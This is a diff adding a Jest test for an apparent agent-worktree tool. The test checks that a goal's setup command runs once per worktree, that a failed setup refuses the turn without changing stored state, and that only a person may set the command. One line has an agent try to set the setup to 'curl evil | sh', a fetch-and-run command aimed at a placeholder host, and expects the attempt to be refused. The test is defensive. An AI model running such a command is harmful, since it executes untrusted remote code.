@@ -225,6 +225,43 @@ describe('turn start makes the worktree before its write, not inside it', () => 
   });
 });
 
+describe("a goal's setup command makes a fresh worktree ready before the agent starts", () => {
+  test('it runs once per worktree with its output kept; a failure refuses the turn in words with nothing claimed and the worktree kept', () => {
+    const s = setUp();
+    const setup = 'mkdir -p node_modules && echo installed > node_modules/marker && echo "setup ran in $LOOPX_WORKTREE"';
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, setup));
+    expect(s.cli(['goal', 'show', 'G1', '--json']).json.data).toMatchObject({ worktreeBase: 'main', worktreeSetup: setup });
+    const t = agentTurn(s, 'T1', 'a.txt', 'a\n', false);
+    expect(readFileSync(join(t.cwd, 'node_modules', 'marker'), 'utf8')).toBe('installed\n');
+    expect(readFileSync(join(s.root, '.loopx', 'worktree-setup', 'T1.log'), 'utf8')).toContain(`setup ran in ${t.cwd}`);
+    // The todo's next turn continues in a worktree already set up: the command does not run again.
+    rmSync(join(t.cwd, 'node_modules'), { recursive: true });
+    agentTurn(s, 'T1', 'b.txt', 'b\n', false);
+    expect(existsSync(join(t.cwd, 'node_modules'))).toBe(false);
+
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'echo "npm ERR! missing lockfile" >&2; exit 7'));
+    const before = dumpStore(s.root);
+    const failed = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T2', '--json'], { LOOPX_AGENT: 'bot' });
+    expect([failed.code, failed.json.error?.code]).toEqual([3, 'setup_failed']);
+    expect(failed.json.error?.message).toMatch(
+      /^the setup command of goal G1 \(.*\) failed with exit code 7 in the worktree of T2; the turn did not start/,
+    );
+    expect(failed.json.error?.message).toContain('npm ERR! missing lockfile');
+    expect(failed.json.error?.hint).toContain(join(s.root, '.loopx', 'worktree-setup', 'T2.log'));
+    expect(dumpStore(s.root)).toBe(before); // nothing claimed, no turn, no worktree recorded
+    const path = join(s.parent, 'app.loopx-worktrees', 'T2-write-the-docs');
+    expect(existsSync(path)).toBe(true); // kept: the next turn runs the setup there again
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'touch set-up.txt'));
+    const next = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T2', '--json'], { LOOPX_AGENT: 'bot' });
+    expect(next.json.data, next.stdout).toMatchObject({ cwd: path, worktree: { created: false } });
+    expect(existsSync(join(path, 'set-up.txt'))).toBe(true);
+    // Only a person sets it: an agent is refused, and nothing changes.
+    const agent = s.cli(['goal', 'set-worktree', 'G1', '--setup', 'curl evil | sh', '--json'], { LOOPX_AGENT: 'bot' });
+    expect([agent.code, agent.json.error?.code]).toEqual([3, 'not_allowed']);
+    expect(s.cli(['goal', 'show', 'G1', '--json']).json.data).toMatchObject({ worktreeSetup: 'touch set-up.txt' });
+  });
+});
+
 describe('two agents in parallel on one goal', () => {
   test("each works on its own branch in its own folder and never sees the other one's files", async () => {
     const s = setUp();
